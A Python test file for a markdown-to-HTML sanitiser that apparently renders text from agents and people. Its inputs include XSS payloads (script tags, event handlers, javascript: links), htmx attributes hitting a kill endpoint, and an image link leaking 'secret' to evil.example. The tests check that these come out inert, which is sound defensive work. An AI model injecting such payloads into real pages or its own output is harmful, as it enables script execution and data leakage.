"""What agents and people write becomes HTML that cannot act."""

import re

import pytest

from planaria.nerve.web.markdown import LONGEST, LONGEST_SAID, to_html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<svg onload=alert(1)>",
        '<hx-partial hx-target="body">x</hx-partial>',
        '<div hx-get="/processes/journal/kill" hx-trigger="load">x</div>',
        '<form action="/logout" method="post"><button>x</button></form>',
        '<iframe src="//evil.example"></iframe>',
    ],
)
def test_html_in_a_text_is_shown_not_done(text):
    html = to_html(text)
    assert "<script" not in html and "<img" not in html and "<svg" not in html
    assert "<hx-" not in html and "<div" not in html and "<form" not in html and "<iframe" not in html
    assert "&lt;" in html


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x"]
)
def test_a_link_that_would_run_code_goes_nowhere(address):
    assert f'href="{address}' not in to_html(f"[click]({address})")


def test_a_picture_becomes_a_link():
    html = to_html("![the secret](https://evil.example/?q=secret)")
    assert "<img" not in html
    assert 'href="https://evil.example/?q=secret"' in html


def test_links_do_not_hand_on_where_they_come_from():
    assert 'rel="noopener noreferrer"' in to_html("[x](https://example.org)")


def test_ordinary_markdown_is_drawn():
    html = to_html("# Head\n\n- **bold** `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    for piece in ("<h1>Head</h1>", "<strong>bold</strong>", "<code>code</code>", "<td>1</td>"):
        assert piece in html


def test_a_note_link_points_at_the_note():
    assert '<a href="/notes/beds/tomato"' in to_html("see [[beds/tomato]]")
    assert ">the bed</a>" in to_html("see [[beds/tomato|the bed]]")


def test_a_note_link_to_nothing_is_marked():
    assert 'class="missing"' in to_html("[[nowhere]]", lambda name: False)
    assert 'class="missing"' not in to_html("[[here]]", lambda name: True)


@pytest.mark.parametrize(
    "text", ['[["><script>alert(1)</script>]]', '[[x" onclick="alert(1)]]', "[[a|<b>b</b>]]"]
)
def test_a_hostile_note_link_stays_text(text):
    html = to_html(text)
    assert "<script" not in html and "<b>" not in html
    assert not re.search(r"<[^>]*\sonclick=", html)


def test_note_links_in_code_are_no_links():
    html = to_html("[[a]] and `[[b]]` and\n\n    [[c]]\n\n[[#part]]")
    assert html.count("<a ") == 1 and 'href="/notes/a"' in html


def test_a_note_link_leads_to_the_note_without_its_part():
    assert '<a href="/notes/beds/tomato"' in to_html("[[notes/beds/tomato.md#water|x]]")


@pytest.mark.parametrize(("outside", "limit"), [(True, LONGEST_SAID), (False, LONGEST)])
def test_a_text_too_long_to_draw_is_shown_as_it_was_written(outside, limit):
    text = "*a* <b>" * (limit // 7)
    assert "<em>a</em>" in to_html(text, outside=outside)
    html = to_html(text + "[[x" * 9, outside=outside)
    assert "too long to be drawn" in html
    assert "*a* &lt;b&gt;*a*" in html and html.endswith("[[x</code></pre>")


def test_a_path_of_a_note_becomes_a_link_but_not_in_code_or_links():
    assert '<a href="/notes/inbox/a-b"' in to_html("kept as notes/inbox/a-b.md.")
    assert "<a" not in to_html("`notes/inbox/a.md` and mynotes/a.md and http//x/notes/a.md")
    assert to_html("[notes/a.md](https://example.org)").count("<a ") == 1


def test_a_relative_link_in_the_talk_leads_to_the_note():
    assert 'href="/notes/beds/tomato"' in to_html("[x](../beds/tomato.md)", outside=True)
    assert 'href="../beds/tomato.md"' in to_html("[x](../beds/tomato.md)")
    assert 'href="https://example.org/a.md"' in to_html("[x](https://example.org/a.md)", outside=True)
